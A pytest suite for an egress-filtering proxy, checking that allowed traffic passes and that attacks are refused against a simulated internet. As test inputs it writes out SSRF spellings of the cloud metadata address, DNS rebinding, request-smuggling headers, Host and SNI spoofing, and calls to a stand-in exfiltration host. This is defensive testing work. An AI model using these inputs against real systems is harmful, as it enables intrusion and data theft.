"""cofferdam-egressproxy behind a gate, against an internet of our own. Each attack has an allowed control."""
import contextlib
import json
import os
import re
import socket
import struct
import subprocess
import threading
import time

import pytest

from world import BIN, DNS4, OTHER_DNS, Gate, World, listen_in, missing

pytestmark = pytest.mark.skipif(missing() is not None, reason=str(missing()))

V4, V6 = "93.184.216.34", "2606:2800:220::34"
OTHER4 = "93.184.216.35"
SITE = "site.example.com"
OTHER = "other.example.com"
RULES = [SITE, f"http://{SITE}", OTHER, f"http://{OTHER}", f"http://{SITE}:8080", "tcp://git.example.com:22",
         "*.wild.example.com", "http://rebind.example.com", "http://mixed.example.com", "http://private.example.com",
         "http://opened.example.com=10.0.0.0/8", "http://self.example.com", "http://chain.example.com",
         "http://chain-private.example.com", "http://big.example.com", "http://slow.example.com",
         "http://dead.example.com", "http://meta.example.com", "http://v6meta.example.com", "http://only4.example.com",
         "http://nodata.example.com", "http://gone.example.com", "http://broken.example.com"]


@pytest.fixture(scope="module")
def world():
    with World() as made:
        made.dns.add(SITE, A=V4, AAAA=V6)
        made.dns.add(OTHER, A=OTHER4)
        made.dns.add("git.example.com", A="93.184.216.36")
        made.dns.add("a.wild.example.com", A=V4)
        made.dns.add("mixed.example.com", A=["10.0.0.5", V4])
        made.dns.add("private.example.com", A="10.0.0.5")
        made.dns.add("opened.example.com", A="10.0.0.5")
        made.dns.add("self.example.com", A=World.OUTSIDE_EXTRA)
        made.dns.add("chain.example.com", CNAME="hop.example.net")
        made.dns.add("hop.example.net", CNAME="end.example.net")
        made.dns.add("end.example.net", A=V4)
        made.dns.add("chain-private.example.com", CNAME="inner.example.net")
        made.dns.add("inner.example.net", A="10.0.0.5")
        made.dns.add("big.example.com", A=V4)
        made.dns.behave("big.example.com", "truncate")
        made.dns.add("slow.example.com", A=V4)
        made.dns.behave("slow.example.com", "silent")
        made.dns.add("dead.example.com", A="1.1.1.1")
        made.dns.add("meta.example.com", A="169.254.169.254")
        made.dns.add("v6meta.example.com", AAAA="fd00:ec2::254")
        made.dns.add("only4.example.com", A=V4)
        made.dns.add("nodata.example.com", TXT="x")
        made.dns.behave("broken.example.com", "servfail")
        made.site4 = made.http(V4)
        made.site6 = made.http(V6)
        made.site8080 = made.http(V4, 8080)
        made.tls4 = made.https(V4, names=[SITE, "a.wild.example.com"])
        made.tls6 = made.https(V6, names=[SITE])
        made.other = made.http(OTHER4)
        made.other_tls = made.https(OTHER4, names=[OTHER, SITE])
        made.git = made.tcp("93.184.216.36", 22, b"SSH-2.0-test\r\n")
        made.private = made.http("10.0.0.5")
        made.metadata = made.http("169.254.169.254")
        made.metadata6 = made.http("fd00:ec2::254")
        yield made


@pytest.fixture(scope="module")
def gate(world):
    with Gate(world, rules=RULES, deny=["bad.wild.example.com"]) as made:
        yield made


def body(result):
    assert result.returncode == 0, result.stderr
    return json.loads(result.stdout)


def reason_of(answer):
    """The reason of a refusal, and that it is well formed."""
    head, _, text = answer.partition("\r\n\r\n")
    reason = re.search(r"^Cofferdam-Reason: (\w+)\r?$", head, re.M).group(1)
    parsed = json.loads(text)
    assert parsed["reason"] == reason
    assert set(parsed) == {"error", "reason", "rule", "host", "port", "hint", "retryable"}
    return reason


def talk(gate, data, port=3128, address="127.0.0.1", timeout=15, end=True):
    """Sends bytes and reads to the end."""
    answer = b""
    with contextlib.suppress(ConnectionResetError, BrokenPipeError):
        with gate.connect(address, port) as sock:
            sock.settimeout(timeout)
            sock.sendall(data if isinstance(data, bytes) else data.encode("latin-1"))
            if end:
                with contextlib.suppress(OSError):  # it may be over already
                    sock.shutdown(socket.SHUT_WR)
            while piece := sock.recv(65536):
                answer += piece
    return answer.decode("latin-1")


# --- what is allowed works, over both families and every way in

@pytest.mark.parametrize("family", ["-4", "-6"])
@pytest.mark.parametrize("scheme", ["http", "https"])
def test_transparent(gate, family, scheme):
    answer = body(gate.curl(family, f"{scheme}://{SITE}/path?q=1"))
    assert answer["path"] == "/path?q=1"
    assert answer["server"] == (V4 if family == "-4" else V6)
    event = gate.wait_event(event="egress", verdict="allow", via="transparent", host=SITE,
                            protocol="tls" if scheme == "https" else "http", address=answer["server"])
    assert event["bytes_down"] > 0 and event["bytes_up"] > 0 and event["rule"].startswith("r:")


@pytest.mark.parametrize("proxy", ["http://127.0.0.1:3128", "http://[::1]:3128"])
@pytest.mark.parametrize("scheme", ["http", "https"])
def test_explicit(gate, proxy, scheme):
    assert body(gate.curl("-x", proxy, f"{scheme}://{SITE}/x"))["path"] == "/x"


def test_an_http_client_may_tunnel_plain_http(gate):
    assert body(gate.curl("-p", "-x", gate.proxy, f"http://{SITE}/t"))["path"] == "/t"


def test_python_as_a_client(gate):
    program = ("import urllib.request,json;"
               f"print(json.load(urllib.request.urlopen('http://{SITE}/py'))['path'])")
    result = gate.run(["/usr/bin/python3", "-c", program])
    assert result.stdout.strip() == "/py", result.stderr


def test_a_wildcard_rule_serves_names_below_it(gate):
    assert body(gate.curl("https://a.wild.example.com/"))["server"] == V4


def test_another_port_with_a_rule(gate):
    assert body(gate.curl("-4", f"http://{SITE}:8080/"))["port"] == 8080
    assert body(gate.curl("-x", gate.proxy, f"http://{SITE}:8080/", "-4"))["port"] in (8080,)


def test_a_server_that_speaks_first_over_raw_tcp(gate, world):
    rcode, addresses, _ = gate.ask("git.example.com")
    assert (rcode, addresses) == (0, ["93.184.216.36"])
    with gate.connect("93.184.216.36", 22) as sock:
        assert sock.recv(100) == b"SSH-2.0-test\r\n"
        sock.sendall(b"\x00\xff" * 1000)
        got = b""
        while len(got) < 2000:
            got += sock.recv(4096)
        assert got == b"\x00\xff" * 1000
    assert gate.wait_event(event="egress", host="git.example.com", verdict="allow")["protocol"] == "tcp"


def test_raw_tcp_through_connect(gate):
    with gate.connect("127.0.0.1", 3128) as sock:
        sock.sendall(b"CONNECT git.example.com:22 HTTP/1.1\r\nHost: git.example.com:22\r\n\r\n")
        got = b""
        while b"SSH-2.0-test" not in got:
            piece = sock.recv(4096)
            assert piece, got
            got += piece
        assert got.startswith(b"HTTP/1.1 200 Connection established\r\n\r\nSSH-2.0-test")


def test_large_bodies_both_ways(gate, tmp_path):
    result = gate.curl("-4", f"http://{SITE}/big", text=False)
    assert result.stdout == b"\xa5" * (8 << 20)
    result = gate.curl("-4", f"https://{SITE}/big", text=False)
    assert result.stdout == b"\xa5" * (8 << 20)
    upload = tmp_path / "up"
    upload.write_bytes(b"0123456789abcdef" * 65536)
    answer = body(gate.curl("-4", "-T", upload, f"http://{SITE}/up"))
    assert len(answer["body"]) == 1 << 20
    chunked = body(gate.curl("-4", "-T", "-", f"http://{SITE}/up", input="abc" * 1000))
    assert chunked["body"] == "abc" * 1000 and chunked["headers"]["transfer-encoding"] == "chunked"


@pytest.mark.parametrize("path", ["/chunked", "/until-close"])
def test_every_framing_of_a_response(gate, path):
    assert body(gate.curl("-4", f"http://{SITE}{path}"))["path"] == path
    assert body(gate.curl("-0", "-4", f"http://{SITE}{path}"))["path"] == path


def test_head_and_keep_alive(gate):
    result = gate.curl("-4", "-I", f"http://{SITE}/", f"http://{SITE}/again")
    assert result.returncode == 0 and result.stdout.count("HTTP/1.1 200") == 2


def test_expect_continue_is_relayed(gate):
    answer = body(gate.curl("-4", "-H", "Expect: 100-continue", "-d", "x" * 2000, f"http://{SITE}/e"))
    assert len(answer["body"]) == 2000
    started = time.monotonic()
    result = gate.curl("-4", "-H", "Expect: 100-continue", "-d", "x" * 2000, "-o", "/dev/null", "-w", "%{http_code}",
                       f"http://{SITE}/reject")
    assert result.stdout == "417" and time.monotonic() - started < 5


def test_a_websocket_is_relayed(gate):
    request = (f"GET http://{SITE}/upgrade HTTP/1.1\r\nHost: {SITE}\r\nConnection: Upgrade\r\n"
               "Upgrade: websocket\r\n\r\nping")
    answer = talk(gate, request)
    assert answer.startswith("HTTP/1.1 101") and answer.endswith("\r\n\r\nping")


def test_pipelined_requests_are_answered_in_order(gate, world):
    requests = "".join(f"GET http://{SITE}/n{i} HTTP/1.1\r\nHost: {SITE}\r\n\r\n" for i in range(10))
    answer = talk(gate, requests)
    assert re.findall(r'"path": "/n(\d)"', answer) == [str(i) for i in range(10)]


def test_hop_by_hop_fields_stay_here(gate, world):
    talk(gate, f"GET http://{SITE}/hop HTTP/1.1\r\nHost: {SITE}\r\nProxy-Authorization: Basic c2VjcmV0\r\n"
               "Proxy-Connection: keep-alive\r\nConnection: X-Private\r\nX-Private: 1\r\nTE: trailers\r\nX-Kept: 1\r\n\r\n")
    sent = [r for r in world.site4.requests + world.site6.requests if r["path"] == "/hop"][-1]["headers"]
    assert sent["x-kept"] == "1"
    assert not {"proxy-authorization", "proxy-connection", "x-private", "te", "connection"} & set(sent)


# --- DNS

def test_dns_gives_the_real_checked_addresses(gate):
    assert gate.ask(SITE, 1)[:2] == (0, [V4])
    assert gate.ask(SITE, 28)[:2] == (0, [V6])
    assert gate.ask(SITE, 1, transport="tcp")[:2] == (0, [V4])
    assert gate.ask(SITE, 1, server="::1")[:2] == (0, [V4])
    assert gate.ask(SITE.upper() + ".", 1)[:2] == (0, [V4])


def test_a_denied_name_never_leaves(gate, world):
    before = len(world.dns.questions())
    for name in ("secret-data.evil.example.org", "bad.wild.example.com", "localhost", "printer.local",
                 "metadata.google.internal", "intranet", "wild.example.com", "site.example.com.evil.example.org"):
        rcode, data, packet = gate.ask(name, edns=True)
        assert (rcode, data) == (3, []), name
        assert b"gate\x07invalid" in packet and struct.pack("!H", 15) in packet  # SOA, extended error
    gate.curl("https://evil.example.org/")
    gate.curl("-x", gate.proxy, "https://evil.example.org/")
    gate.curl("-x", gate.proxy, "http://evil.example.org/")
    assert len(world.dns.questions()) == before
    assert gate.ask(SITE)[0] == 0  # the control


@pytest.mark.parametrize("kind", [16, 255, 15, 33, 65, 64, 5])
def test_other_types_are_empty_and_never_leave(gate, world, kind):
    before = len(world.dns.questions())
    assert gate.ask(SITE, kind)[:2] == (0, [])
    assert gate.ask("evil.example.org", kind)[:2] == (3, [])
    assert len(world.dns.questions()) == before


def test_a_missing_family_is_not_a_missing_name(gate):
    assert gate.ask("only4.example.com", 28)[:2] == (0, [])
    assert gate.ask("only4.example.com", 1)[:2] == (0, [V4])


def test_dns_to_another_server_is_answered_here(gate, world):
    assert gate.ask(SITE, server=OTHER_DNS)[:2] == (0, [V4])
    assert gate.ask("evil.example.org", server=OTHER_DNS)[0] == 3
    assert gate.ask(SITE, server=OTHER_DNS, transport="tcp")[:2] == (0, [V4])
    assert gate.ask(SITE, server="2001:4860:4860::8888")[:2] == (0, [V4])
    assert world.other_dns.questions() == []


def test_ptr_of_a_pinned_address(gate):
    gate.ask(SITE)
    rcode, data, _ = gate.ask("34.216.184.93.in-addr.arpa", 12)
    assert rcode == 0 and b"\x04site\x07example\x03com\x00" in data
    assert gate.ask("1.0.0.10.in-addr.arpa", 12)[0] == 3


def test_odd_dns_packets(gate):
    name = b"\x04site\x07example\x03com\x00"
    question = name + struct.pack("!HH", 1, 1)
    def header(flags=0x100, counts=(1, 0, 0, 0)):
        return struct.pack("!6H", 7, flags, *counts)
    assert gate.ask("x", raw=header(counts=(0, 0, 0, 0)))[0] == 1
    assert gate.ask("x", raw=header(counts=(2, 0, 0, 0)) + question * 2)[0] == 1
    assert gate.ask("x", raw=header(flags=5 << 11) + question)[0] == 4  # UPDATE
    assert gate.ask("version.bind", 16, qclass=3)[0] == 5
    assert gate.ask(SITE, 252)[0] == 5  # AXFR
    assert gate.ask("x", raw=header() + b"\x04a\x00b.\x00" + struct.pack("!HH", 1, 1))[0] == 1
    with pytest.raises(TimeoutError):
        gate.ask("x", raw=header(flags=0x8100) + question, timeout=1)  # an answer is no question
    assert gate.ask(SITE)[0] == 0


def test_cname_chain_and_truncation(gate, world):
    assert gate.ask("chain.example.com")[:2] == (0, [V4])
    assert body(gate.curl("http://chain.example.com/"))["server"] == V4
    assert body(gate.curl("http://big.example.com/"))["server"] == V4
    assert ("big.example.com", "A", "tcp") in world.dns.questions("big.example.com")


def test_failures_are_not_called_denials(gate):
    for host, status, reason in (("slow.example.com", 504, "resolve_timeout"), ("gone.example.com", 502, "resolve_failed"),
                                 ("broken.example.com", 502, "resolve_failed"), ("nodata.example.com", 502, "no_address"),
                                 ("dead.example.com", 502, "connect_failed")):
        answer = talk(gate, f"GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n")
        assert answer.startswith(f"HTTP/1.1 {status} "), (host, answer)
        assert reason_of(answer) == reason
        assert gate.wait_event(event="egress", host=host)["verdict"] == "error"


def test_a_flood_of_equal_questions_is_one_question(gate, world):
    world.dns.add("flood.wild.example.com", A=V4)
    threads = [threading.Thread(target=gate.ask, args=("flood.wild.example.com",)) for _ in range(50)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert len(world.dns.questions("flood.wild.example.com")) == 1


# --- addresses

def test_rebinding_finds_no_second_lookup(gate, world):
    world.dns.script("rebind.example.com", "A", [[V4], ["169.254.169.254"]], ttl=0)
    before = world.metadata.connections
    answer = talk(gate, "GET http://rebind.example.com/ HTTP/1.1\r\nHost: rebind.example.com\r\nConnection: close\r\n\r\n")
    assert f'"server": "{V4}"' in answer  # the first answer, the checked one
    time.sleep(1.2)  # the least that an answer is kept
    answer = talk(gate, "GET http://rebind.example.com/ HTTP/1.1\r\nHost: rebind.example.com\r\nConnection: close\r\n\r\n")
    assert reason_of(answer) == "metadata_address"
    assert world.metadata.connections == before


def test_mixed_answers_are_cleaned(gate, world):
    before = world.private.connections
    assert gate.ask("mixed.example.com")[:2] == (0, [V4])
    assert body(gate.curl("http://mixed.example.com/"))["server"] == V4
    assert world.private.connections == before
    event = gate.wait_event(event="dns", host="mixed.example.com", type="A")
    assert event["reason"] == "mixed_answer" and event["dropped"] == [{"address": "10.0.0.5", "reason": "private_address"}]


def test_mixed_answers_are_refused_by_the_strict(world):
    with Gate(world, rules=["http://mixed.example.com", f"http://{SITE}"], mixed="refuse") as strict:
        answer = strict.curl("-i", "-x", strict.proxy, "http://mixed.example.com/").stdout
        assert reason_of(answer.replace("\r\n", "\n").replace("\n", "\r\n")) == "mixed_answer"
        assert body(strict.curl("-x", strict.proxy, f"http://{SITE}/"))


@pytest.mark.parametrize("host,reason", [
    ("private.example.com", "private_address"), ("chain-private.example.com", "private_address"),
    ("self.example.com", "host_address"), ("meta.example.com", "metadata_address"),
    ("v6meta.example.com", "metadata_address")])
def test_a_name_that_leads_inside(gate, world, host, reason):
    before = (world.private.connections, world.metadata.connections, world.metadata6.connections)
    answer = talk(gate, f"GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n")
    assert answer.startswith("HTTP/1.1 403") and reason_of(answer) == reason
    assert gate.ask(host, 28 if host.startswith("v6") else 1)[1] == []
    tunnel = talk(gate, f"CONNECT {host}:80 HTTP/1.1\r\nHost: {host}:80\r\n\r\n")
    assert reason_of(tunnel) == reason
    assert before == (world.private.connections, world.metadata.connections, world.metadata6.connections)
    # No address in a reply.
    for address in ("10.0.0.5", "169.254.169.254", World.OUTSIDE_EXTRA, "fd00:ec2"):
        assert address not in answer + tunnel


def test_a_rule_opens_its_range_for_its_host_only(gate, world):
    assert body(gate.curl("http://opened.example.com/"))["server"] == "10.0.0.5"
    assert body(gate.curl("-x", gate.proxy, "http://opened.example.com/"))["server"] == "10.0.0.5"
    before = world.private.connections
    # The address is pinned now; another Host may not use it.
    result = gate.curl("-i", "-H", "Host: private.example.com", "http://opened.example.com/")
    assert "421" in result.stdout and world.private.connections == before


@pytest.mark.parametrize("target,reason", [
    ("169.254.169.254", "metadata_address"), ("[::ffff:169.254.169.254]", "metadata_address"),
    ("[::ffff:a9fe:a9fe]", "metadata_address"), ("[fd00:ec2::254]", "metadata_address"),
    ("[64:ff9b::a9fe:a9fe]", "metadata_address"), ("[2002:a9fe:a9fe::]", "metadata_address"),
    ("2852039166", "name_invalid"), ("0xa9fea9fe", "name_invalid"), ("0251.0376.0251.0376", "name_invalid"),
    ("169.254.43518", "name_invalid"), ("127.0.0.1", "loopback_address"), ("0.0.0.0", "loopback_address"),
    ("[::1]", "loopback_address"), ("[::]", "loopback_address"), ("127.1", "name_invalid"),
    ("localhost", "loopback_address"), ("foo.localhost.", "loopback_address"), ("8.8.8.8", "ip_literal"),
    ("metadata.google.internal", "metadata_address"), ("192.168.7.7", "ip_literal"),
    ("evil.example.org", "no_rule"), ("bad.wild.example.com", "denied_by_rule"), ("[fe80::1%25eth0]", "name_invalid")])
def test_spellings_of_what_must_not_be_reached(gate, world, target, reason):
    before = (world.metadata.connections, world.metadata6.connections, len(world.dns.questions()))
    tunnel = talk(gate, f"CONNECT {target}:80 HTTP/1.1\r\nHost: {target}:80\r\n\r\n")
    assert reason_of(tunnel) == reason
    plain = talk(gate, f"GET http://{target}/latest/ HTTP/1.1\r\nHost: {target}\r\nConnection: close\r\n\r\n")
    assert reason_of(plain) == ("malformed" if reason == "name_invalid" else reason)
    assert before == (world.metadata.connections, world.metadata6.connections, len(world.dns.questions()))


def test_an_address_that_was_never_given_out(gate, world):
    for address, reason in (("169.254.169.254", "metadata_address"), ("1.0.0.7", "ip_literal"),
                            ("192.168.7.7", "ip_literal"), ("fd00:ec2::254", "metadata_address"),
                            (World.OUTSIDE, "ip_literal")):
        answer = talk(gate, f"GET / HTTP/1.1\r\nHost: {SITE}\r\n\r\n", 80, address)
        assert reason_of(answer) == reason
        with gate.connect(address, 443) as sock:  # TLS is closed without a byte
            sock.sendall(b"\x16\x03\x01\x00\x05hello")
            with pytest.raises((ConnectionResetError, AssertionError)):
                assert sock.recv(100)
    assert world.metadata.requests == [] and world.metadata6.requests == []


def test_a_literal_rule_reaches_its_literal(world):
    with Gate(world, rules=[f"http://{V4}", f"http://[{V6}]", "http://10.0.0.5=10.0.0.5", "http://192.168.7.7"]) as literal:
        assert body(literal.curl(f"http://{V4}/"))["server"] == V4
        assert body(literal.curl(f"http://[{V6}]/"))["server"] == V6
        assert body(literal.curl("http://10.0.0.5/"))["server"] == "10.0.0.5"
        assert reason_of(talk(literal, "GET / HTTP/1.1\r\nHost: 192.168.7.7\r\n\r\n", 80, "192.168.7.7")) == "private_address"
        assert reason_of(talk(literal, f"GET / HTTP/1.1\r\nHost: {OTHER4}\r\n\r\n", 80, OTHER4)) == "ip_literal"


def test_host_addresses_of_the_policy(world):
    with Gate(world, rules=[f"http://{SITE}", f"http://{OTHER}"], host_addresses=[OTHER4]) as named:
        assert reason_of(talk(named, f"GET http://{OTHER}/ HTTP/1.1\r\nHost: {OTHER}\r\n\r\n")) == "host_address"
        assert body(named.curl("-x", named.proxy, f"http://{SITE}/"))


def test_a_new_address_of_the_host_is_known_at_once(world):
    world.dns.add("late.example.com", A="11.0.0.99")
    with Gate(world, rules=["http://late.example.com"]) as late:
        device = f"vo{world.tag}"
        subprocess.run(["ip", "-n", world.outside, "addr", "add", "11.0.0.99/24", "dev", device], check=True)
        try:
            time.sleep(0.2)
            answer = talk(late, "GET http://late.example.com/ HTTP/1.1\r\nHost: late.example.com\r\n\r\n")
            assert reason_of(answer) == "host_address"
        finally:
            subprocess.run(["ip", "-n", world.outside, "addr", "del", "11.0.0.99/24", "dev", device], check=True)


# --- what is said inside must be what was allowed

def test_sni_must_be_the_host_of_connect(gate, world):
    before = world.other_tls.connections + world.tls4.connections
    result = gate.curl("-x", gate.proxy, "--connect-to", f"{SITE}:443:{OTHER}:443", f"https://{SITE}/")
    assert result.returncode != 0
    event = gate.wait_event(event="egress", verdict="deny", reason="sni_mismatch", via="connect")
    assert event["host"] == OTHER
    assert not world.other_tls.requests
    assert body(gate.curl("-x", gate.proxy, f"https://{SITE}/"))
    assert before <= world.other_tls.connections + world.tls4.connections


def test_sni_may_not_widen_a_pinned_address(gate, world):
    gate.ask(OTHER)
    # SITE is allowed and OTHER's address was given out, but not for SITE.
    result = gate.curl("--resolve", f"{SITE}:443:{OTHER4}", f"https://{SITE}/")
    assert result.returncode != 0
    assert gate.wait_event(event="egress", reason="sni_mismatch", via="transparent", host=SITE)
    assert not world.other_tls.requests
    result = gate.curl("--resolve", f"{OTHER}:443:{OTHER4}", f"https://{OTHER}/")
    assert body(result)["server"] == OTHER4
    world.other_tls.requests.clear()


def test_tls_without_a_name(gate):
    gate.ask(SITE)
    result = gate.curl("-k", f"https://{V4}/")
    assert result.returncode != 0
    assert gate.wait_event(event="egress", reason="sni_missing", via="transparent")


def test_what_is_not_tls_on_a_tls_port(gate):
    gate.ask("a.wild.example.com")
    assert talk(gate, "SSH-2.0-x\r\n", 443, V4) == ""
    assert gate.wait_event(event="egress", reason="not_tls", via="transparent")
    answer = talk(gate, f"CONNECT {SITE}:443 HTTP/1.1\r\nHost: {SITE}:443\r\n\r\nGET / HTTP/1.1\r\nHost: {SITE}\r\n\r\n")
    assert answer in ("", "HTTP/1.1 200 Connection established\r\n\r\n")
    assert gate.wait_event(event="egress", reason="not_tls", via="connect")


def test_a_client_hello_in_many_segments_and_records(gate, world):
    import ssl
    context = ssl.create_default_context(cafile=str(world.ca_file))
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context.wrap_bio(incoming, outgoing, server_hostname=SITE)
    with pytest.raises(ssl.SSLWantReadError):
        tls.do_handshake()
    hello = outgoing.read()
    payload = hello[5:]
    records = b"".join(b"\x16\x03\x01" + struct.pack("!H", len(payload[i:i + 60])) + payload[i:i + 60]
                       for i in range(0, len(payload), 60))
    gate.ask(SITE)
    for data, step in ((hello, 7), (records, 50)):
        with gate.connect(V4, 443) as sock:
            for i in range(0, len(data), step):
                sock.sendall(data[i:i + step])
                time.sleep(0.002)
            assert sock.recv(5)[:1] in (b"\x16", b"\x15")  # the server's own answer


def test_host_may_not_widen(gate, world):
    gate.ask(SITE)
    gate.ask(OTHER)
    before = len(world.site4.requests) + len(world.other.requests)
    for host in ("evil.example.org", OTHER, f"{SITE}:8080"):
        answer = talk(gate, f"GET / HTTP/1.1\r\nHost: {host}\r\n\r\n", 80, V4)
        assert answer.startswith("HTTP/1.1 421") and reason_of(answer) == "host_mismatch"
    assert len(world.site4.requests) + len(world.other.requests) == before
    assert talk(gate, f"GET /ok HTTP/1.1\r\nHost: {SITE}\r\nConnection: close\r\n\r\n", 80, V4).startswith("HTTP/1.1 200")


@pytest.mark.parametrize("request_text,reason", [
    (f"GET http://{SITE}/ HTTP/1.1\r\nHost: evil.example.org\r\n\r\n", "host_mismatch"),
    (f"GET http://{SITE}/ HTTP/1.1\r\nHost: {OTHER}\r\n\r\n", "host_mismatch"),
    (f"GET http://{SITE}/ HTTP/1.1\r\nHost: {SITE}:8080\r\n\r\n", "host_mismatch"),
    (f"CONNECT {SITE}:443 HTTP/1.1\r\nHost: {OTHER}:443\r\n\r\n", "host_mismatch"),
    (f"CONNECT {SITE} HTTP/1.1\r\nHost: {SITE}\r\n\r\n", "name_invalid"),
    (f"CONNECT {SITE}:4294967739 HTTP/1.1\r\nHost: {SITE}\r\n\r\n", "name_invalid"),
    (f"CONNECT user@{SITE}:443 HTTP/1.1\r\nHost: {SITE}\r\n\r\n", "name_invalid"),
    (f"CONNECT {SITE}:443 HTTP/1.1\r\nHost: {SITE}:443\r\nContent-Length: 3\r\n\r\nabc", "malformed"),
    (f"CONNECT {SITE}:22 HTTP/1.1\r\nHost: {SITE}:22\r\n\r\n", "port_not_allowed"),
    (f"CONNECT {SITE}:53 HTTP/1.1\r\nHost: {SITE}:53\r\n\r\n", "port_not_allowed"),
    (f"GET https://{SITE}/ HTTP/1.1\r\nHost: {SITE}\r\n\r\n", "malformed"),
    (f"GET ftp://{SITE}/ HTTP/1.1\r\nHost: {SITE}\r\n\r\n", "malformed"),
    (f"GET / HTTP/1.1\r\nHost: {SITE}\r\n\r\n", "malformed"),
    (f"OPTIONS * HTTP/1.1\r\nHost: {SITE}\r\n\r\n", "malformed"),
    (f"TRACE http://{SITE}/ HTTP/1.1\r\nHost: {SITE}\r\n\r\n", "method_not_allowed"),
    (f"GET http://{SITE}@evil.example.org/ HTTP/1.1\r\nHost: {SITE}\r\n\r\n", "malformed"),
    (f"GET http://evil.example.org#@{SITE}/ HTTP/1.1\r\nHost: {SITE}\r\n\r\n", "malformed"),
    (f"GET http://{SITE}/ HTTP/1.1\r\nHost: {SITE}\r\nHost: {SITE}\r\n\r\n", "malformed"),
    (f"GET http://{SITE}/ HTTP/1.1\r\n\r\n", "malformed"),
    (f"POST http://{SITE}/ HTTP/1.1\r\nHost: {SITE}\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n", "malformed"),
    (f"POST http://{SITE}/ HTTP/1.1\r\nHost: {SITE}\r\nTransfer-Encoding: gzip\r\n\r\n", "unsupported"),
    (f"POST http://{SITE}/ HTTP/1.1\r\nHost: {SITE}\r\nContent-Length: 5, 5\r\n\r\nabcde", "malformed"),
    (f"GET http://{SITE}/ HTTP/1.1\r\nHost: {SITE}\r\nX: a\r\n b\r\n\r\n", "malformed"),
    (f"GET http://{SITE}/ HTTP/1.1\nHost: {SITE}\n\n", "malformed"),
    (f"GET http://{SITE}/\xff HTTP/1.1\r\nHost: {SITE}\r\n\r\n", "malformed"),
    (f"GET http://{SITE}/ HTTP/1.1\r\nHost: {SITE}\r\nX: {'a' * 40000}\r\n\r\n", "malformed"),
    (f"GET http://{SITE}/ HTTP/1.1\r\nHost: {SITE}\r\nConnection: Host\r\n\r\n", "malformed"),
    (f"GET http://{SITE}/ HTTP/1.1\r\nHost: {SITE}\r\nExpect: 200-ok\r\n\r\n", "unsupported"),
    ("\x80\x01\x02\x03 nonsense\r\n\r\n", "malformed"),
])
def test_requests_that_are_refused(gate, world, request_text, reason):
    before = len(world.site4.requests) + len(world.site6.requests) + len(world.other.requests)
    answer = talk(gate, request_text)
    assert answer.startswith("HTTP/1.1 4") or answer.startswith("HTTP/1.1 5"), answer
    assert reason_of(answer) == reason
    assert len(world.site4.requests) + len(world.site6.requests) + len(world.other.requests) == before


def test_a_pipelined_second_host_is_a_decision_of_its_own(gate, world):
    before = len(world.dns.questions("evil.example.org"))
    seen = len(world.site4.requests) + len(world.site6.requests)
    answer = talk(gate, f"GET http://{SITE}/one HTTP/1.1\r\nHost: {SITE}\r\n\r\n"
                        "GET http://evil.example.org/two HTTP/1.1\r\nHost: evil.example.org\r\n\r\n"
                        f"GET http://{OTHER}/three HTTP/1.1\r\nHost: {OTHER}\r\n\r\n")
    assert [int(s) for s in re.findall(r"HTTP/1\.1 (\d+)", answer)] == [200, 403, 200]
    assert f'"server": "{OTHER4}"' in answer
    assert len(world.site4.requests) + len(world.site6.requests) == seen + 1
    assert len(world.dns.questions("evil.example.org")) == before


def test_a_redirect_is_not_followed_and_decided_anew(gate, world):
    result = gate.curl("-4", "-L", "-i", f"http://{SITE}/redirect")
    assert "Location: http://169.254.169.254/" in result.stdout
    assert not world.metadata.requests


def test_a_bad_response_is_not_passed_on(gate):
    answer = talk(gate, f"GET http://{SITE}/bad-response HTTP/1.1\r\nHost: {SITE}\r\n\r\n")
    assert answer.startswith("HTTP/1.1 502") and "abc" not in answer


@contextlib.contextmanager
def raw_server(world, address, port, answer):
    """Reads once, answers with these bytes, and closes when `answer` ends in None, else holds the connection."""
    listener = listen_in(world.internet, address, port)
    held = []

    def serve():
        with contextlib.suppress(OSError):
            while True:
                sock, _ = listener.accept()
                sock.settimeout(10)
                with contextlib.suppress(OSError):
                    sock.recv(1 << 16)
                    sock.sendall(answer[0])
                if len(answer) > 1:
                    sock.close()
                else:
                    held.append(sock)

    threading.Thread(target=serve, daemon=True).start()
    try:
        yield
    finally:
        # close() alone does not end an accept() of another thread.
        with contextlib.suppress(OSError):
            listener.shutdown(socket.SHUT_RDWR)
        listener.close()
        for sock in held:
            sock.close()


CUT = b"HTTP/1.1 200 OK\r\nContent-Length: 10\r\n\r\nhalf"
WHOLE = b"HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\ndone"


@pytest.mark.parametrize("answer", [[CUT, None], [WHOLE, None], [WHOLE], [b"nonsense\r\n\r\n"], [b"", None]])
@pytest.mark.parametrize("sent", [10, 1 << 26])
def test_an_exchange_that_breaks_in_both_directions_is_recorded_and_ends(world, answer, sent):
    """The request never becomes whole, and the server cuts its answer, stops reading, or talks nonsense."""
    world.dns.add("cut.example.com", A=V4)
    with raw_server(world, V4, 8085, answer), Gate(world, rules=["http://cut.example.com:8085"]) as gate:
        head = "POST http://cut.example.com:8085/x HTTP/1.1\r\nHost: cut.example.com:8085\r\nContent-Length: " \
               f"{(1 << 26) + 1}\r\n\r\n"
        with gate.connect("127.0.0.1", 3128) as sock, contextlib.suppress(OSError):
            sock.settimeout(15)
            sock.sendall(head.encode() + b"x" * sent)
            while sock.recv(1 << 16):
                pass
        assert sessions_end(gate, 10)
        events = gate.events(event="egress", host="cut.example.com")
        assert len(events) == 1 and events[0]["method"] == "POST"


def sessions_end(gate, within):
    deadline = time.monotonic() + within
    while gate.stats()["sessions"] and time.monotonic() < deadline:
        time.sleep(0.05)
    return gate.stats()["sessions"] == 0


@pytest.mark.parametrize("begun", [b"", b"GET http://site.example.com/ HT", b"GET / HTTP/1.1\r\nHost: a\r\n", b"\x16\x03\x01\0",
                                   b"\x16\x03\x01\x02\0\x01", b"\0\x20\0"])
def test_a_client_that_goes_away_leaves_nothing_behind(world, begun):
    """Also when its end came after bytes that were not yet a whole request."""
    with Gate(world, rules=[f"http://{SITE}"]) as gate:
        for address, port in (("127.0.0.1", 3128), (V4, 80), ("127.0.0.1", 53), ("127.0.0.1", 3129)):
            # A connection to the transparent port itself is reset at once.
            with contextlib.suppress(ConnectionResetError), gate.connect(address, port) as sock:
                sock.sendall(begun)
                time.sleep(0.1)
